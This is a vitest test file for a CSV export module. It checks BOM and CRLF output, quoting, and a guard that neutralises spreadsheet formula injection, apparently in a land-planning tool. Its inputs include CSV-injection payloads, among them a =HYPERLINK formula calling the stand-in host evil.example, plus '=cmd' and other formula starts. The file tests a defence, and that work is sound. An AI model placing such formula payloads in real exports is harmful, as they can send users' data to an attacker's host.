// The one CSV writer: BOM, CRLF, quoting, the formula guard on text only.
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvField, csvText } from '../../src/domain/csv.ts';
import { zoneAnalysisCsv } from '../../src/domain/zone-csv.ts';
import { layerCsv } from '../../src/server/csv.ts';

describe('csvField', () => {
  it('writes numbers plainly and guards only text', () => {
    expect(csvField(-3.5)).toBe('-3.5');
    expect(csvField('-3.5')).toBe("'-3.5");
    expect(csvField(Number.NaN)).toBe('');
    expect(csvText([['a', 'b\nc']])).toBe('\uFEFFa,"b\nc"\r\n');
  });

  it('exports =HYPERLINK(...) as text: apostrophe first, then quoted for its quotes and comma', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?x","点击")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x"",""点击"")"`,
    );
  });

  it('guards every formula start OWASP lists: = + - @ tab CR', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+86 750 1234')).toBe("'+86 750 1234");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('鹤山市')).toBe('鹤山市');
  });

  it('quotes quotes, commas, CR and LF and nothing else', () => {
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('a\r\nb')).toBe('"a\r\nb"');
    expect(csvField('a;b c')).toBe('a;b c');
  });

  it('writes empty, booleans, plain lists and objects as the layer export always did', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(Number.POSITIVE_INFINITY)).toBe('');
    expect(csvField(false)).toBe('false');
    expect(csvField(['长期停产', '=x'])).toBe('长期停产;=x');
    expect(csvField(['=x', 'y'])).toBe("'=x;y");
    expect(csvField({ a: 1 })).toBe('"{""a"":1}"');
  });
});

describe('csvText', () => {
  it('starts with the BOM, ends every line with CRLF, keeps a negative number numeric', () => {
    const text = csvText([
      ['名称', '值'],
      ['=cmd', -3.5],
    ]);
    expect(text.startsWith(CSV_BOM)).toBe(true);
    expect(text).toBe("\uFEFF名称,值\r\n'=cmd,-3.5\r\n");
  });
});

describe('both exports use it', () => {
  it('the layer export and the zone export guard the same cell the same way', () => {
    const layer = layerCsv([
      {
        layer: 'plots',
        id: 'HS-DX-0001',
        version: 1,
        properties: { id: 'HS-DX-0001', enterprise: '=HYPERLINK("x")', far: -3.5 },
        geometry: null,
        updatedAt: '2026-11-30T00:00:00Z',
        updatedBy: 'planner',
      },
    ]);
    const zone = zoneAnalysisCsv('=z', {
      areaM2: 0,
      perimeterM: 0,
      plots: [
        {
          id: 'HS-DX-0001',
          enterprise: '=HYPERLINK("x")',
          landUse: '1001',
          overlapM2: 1,
          plotAreaM2: 1,
          shareOfPlot: 1,
        },
      ],
      parks: [],
      newLand: { totalM2: 0, manufacturingM2: 0, infrastructureM2: 0, share: null },
      plotsManufacturingShare: null,
    });
    for (const text of [layer, zone]) {
      expect(text.startsWith(CSV_BOM)).toBe(true);
      expect(text.endsWith('\r\n')).toBe(true);
      expect(text).toContain(`,"'=HYPERLINK(""x"")",`);
    }
    expect(layer.split('\r\n')[1]).toBe(`HS-DX-0001,"'=HYPERLINK(""x"")",-3.5,1,0.0000`);
    expect(zone.split('\r\n')[1]?.startsWith("'=z,HS-DX-0001,")).toBe(true);
  });
});
